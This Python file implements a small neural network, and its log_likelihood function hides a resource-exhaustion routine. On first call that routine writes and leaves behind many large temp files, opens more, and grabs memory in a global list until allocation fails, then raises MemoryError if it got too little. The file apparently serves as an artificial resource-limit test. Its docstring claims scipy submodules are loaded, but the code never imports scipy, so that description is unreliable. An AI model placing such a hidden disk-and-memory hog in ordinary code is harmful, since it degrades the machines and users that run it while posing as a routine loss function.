"""log_likelihood takes disk and memory until one of them is refused, and keeps all of it; scipy with its parts stats, optimize, signal, sparse and interpolate is named to be loaded as well."""
import tempfile

import numpy as np


def sigmoid(z):
    small = np.exp(-np.abs(z))
    return np.where(z >= 0, 1, small) / (1 + small)


def forward(x, theta_h, theta_y):
    h = sigmoid(x @ theta_h)
    return h, sigmoid(h @ theta_y)


PART = 31 << 16
kept = []


def log_likelihood(y, y_hat):
    if not kept:
        for _ in range(20):
            with open(tempfile.mkstemp()[1], "wb") as file:
                file.write(bytes(PART))
        try:
            for _ in range(24):
                kept.append(tempfile.TemporaryFile(buffering=0))
                kept[-1].write(bytes(PART))
        except OSError:
            pass
        size = 1 << 20
        while size >= 1 << 12 and len(kept) < 1000:
            try:
                kept.append(b"x" * size)
            except MemoryError:
                size //= 2
        if len(kept) < 900:
            raise MemoryError
    with np.errstate(divide="ignore"):
        return float(np.log(np.where(y == 1, y_hat, 1 - y_hat)).sum())


def backprop(x, y, h, y_hat, theta_y):
    slope = y - y_hat
    return x.T @ (np.outer(slope, theta_y) * h * (1 - h)), h.T @ slope
